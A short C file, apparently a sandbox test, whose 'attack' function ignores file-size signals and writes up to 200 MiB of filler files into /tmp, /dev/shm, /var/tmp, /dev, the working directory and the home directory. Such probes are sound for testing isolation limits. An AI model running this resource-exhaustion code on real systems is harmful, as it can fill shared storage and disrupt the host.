/* At most 200 MiB, wherever it may write. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static long left = 200L << 20;

static void fill(const char *folder)
{
    static char block[1 << 16];
    char path[512];

    for (int file = 0; folder && left > 0 && file < 100; file++) {
        snprintf(path, sizeof(path), "%s/lectern-fill%d", folder, file);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        if (fd < 0) {
            return;
        }
        while (left > 0 && write(fd, block, sizeof(block)) > 0) {
            left -= (long)sizeof(block);
        }
        close(fd);
    }
}

static void attack(void)
{
    signal(SIGXFSZ, SIG_IGN);
    fill("/tmp");
    fill("/dev/shm");
    fill("/var/tmp");
    fill("/dev");
    fill(".");
    fill(getenv("HOME"));
    left = 0;
}
